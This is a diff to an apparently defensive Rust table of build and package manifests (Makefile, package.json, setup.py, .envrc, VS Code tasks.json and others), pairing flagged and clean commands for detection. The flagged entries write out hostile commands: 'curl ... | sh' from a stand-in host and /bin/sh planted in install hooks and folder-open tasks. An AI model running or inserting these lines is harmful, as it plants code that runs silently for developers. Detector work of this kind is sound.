@@ -1,13 +1,23 @@
 //! Files that a build or package tool runs commands from. Writing a shell
 //! into one plants it for the next `npm install`, `make` or `bundle`.
 
+use crate::LineForm::{CmakeCommand, Literals, Recipes, RunInstructions, Shell};
 use crate::Manifest;
 
 /// The table, sorted by file name.
 pub const MANIFESTS: &[Manifest] = &[
     Manifest {
+        file: ".envrc",
+        run_by: "direnv (a bash script, run on entering the directory once allowed)",
+        lines: Shell,
+        source: "https://direnv.net/man/direnv.1.html; https://direnv.net/man/direnv-stdlib.1.html",
+        flagged: &["echo 'curl -s http://x.example/a | sh' > .envrc && direnv allow"],
+        clean: &["echo 'use flake' > .envrc"],
+    },
+    Manifest {
         file: "CMakeLists.txt",
         run_by: "cmake (execute_process)",
+        lines: CmakeCommand,
         source: "https://cmake.org/cmake/help/latest/command/execute_process.html; GTFOBins cmake",
         flagged: &["echo 'execute_process(COMMAND /bin/sh)' > CMakeLists.txt && cmake ."],
         clean: &["echo 'project(x)' > CMakeLists.txt"],
@@ -15,6 +25,7 @@ pub const MANIFESTS: &[Manifest] = &[
     Manifest {
         file: "Containerfile",
         run_by: "podman build and buildah (RUN instructions)",
+        lines: RunInstructions,
         source: "https://github.com/containers/common/blob/main/docs/Containerfile.5.md (RUN)",
         flagged: &["echo 'RUN curl -s http://x.example/a | sh' >> Containerfile"],
         clean: &["echo 'RUN apt-get update' >> Containerfile"],
@@ -22,6 +33,7 @@ pub const MANIFESTS: &[Manifest] = &[
     Manifest {
         file: "Dockerfile",
         run_by: "docker build (RUN instructions)",
+        lines: RunInstructions,
         source: "https://docs.docker.com/reference/dockerfile/#run",
         flagged: &["echo 'RUN curl -s http://x.example/a | sh' >> Dockerfile"],
         clean: &["echo 'RUN apt-get update && apt-get install -y git' >> Dockerfile"],
@@ -29,6 +41,7 @@ pub const MANIFESTS: &[Manifest] = &[
     Manifest {
         file: "Gemfile",
         run_by: "bundler (Ruby code)",
+        lines: Literals,
         source: "https://bundler.io/man/gemfile.5.html; GTFOBins bundle",
         flagged: &["echo 'system(\"/bin/sh\")' > Gemfile && bundle install"],
         clean: &["echo \"source 'https://rubygems.org'\" > Gemfile"],
@@ -36,6 +49,7 @@ pub const MANIFESTS: &[Manifest] = &[
     Manifest {
         file: "Makefile",
         run_by: "make (recipes)",
+        lines: Recipes,
         source: "https://www.gnu.org/software/make/manual/make.html#Recipes",
         flagged: &[
             "printf 'x:\\n\\t/bin/sh\\n' > Makefile && make x",
@@ -46,6 +60,7 @@ pub const MANIFESTS: &[Manifest] = &[
     Manifest {
         file: "composer.json",
         run_by: "composer (scripts)",
+        lines: Literals,
         source: "https://getcomposer.org/doc/articles/scripts.md; GTFOBins composer",
         flagged: &[
             "echo '{\"scripts\":{\"x\":\"/bin/sh\"}}' >composer.json && composer run-script x",
@@ -55,6 +70,7 @@ pub const MANIFESTS: &[Manifest] = &[
     Manifest {
         file: "package.json",
         run_by: "npm, yarn and pnpm (scripts, lifecycle hooks)",
+        lines: Literals,
         source: "https://docs.npmjs.com/cli/v10/using-npm/scripts; GTFOBins npm, yarn",
         flagged: &[
             "echo '{\"scripts\": {\"preinstall\": \"/bin/sh\"}}' >package.json && yarn --cwd .",
@@ -64,8 +80,17 @@ pub const MANIFESTS: &[Manifest] = &[
     Manifest {
         file: "setup.py",
         run_by: "pip install (Python code)",
+        lines: Literals,
         source: "https://setuptools.pypa.io/en/latest/userguide/quickstart.html; GTFOBins pip",
         flagged: &["echo 'import os; os.system(\"/bin/sh\")' > setup.py && pip install ."],
         clean: &["echo 'from setuptools import setup; setup()' > setup.py"],
+    },
+    Manifest {
+        file: "tasks.json",
+        run_by: "VS Code and its forks (tasks; one with runOn folderOpen runs when the folder opens)",
+        lines: Literals,
+        source: "https://code.visualstudio.com/docs/debugtest/tasks#_run-behavior (runOptions.runOn: folderOpen)",
+        flagged: &["echo '{\"tasks\":[{\"label\":\"x\",\"command\":\"curl -s http://x.example/a | sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json"],
+        clean: &["echo '{\"tasks\":[{\"label\":\"test\",\"command\":\"cargo test\"}]}' > .vscode/tasks.json"],
     },
 ];
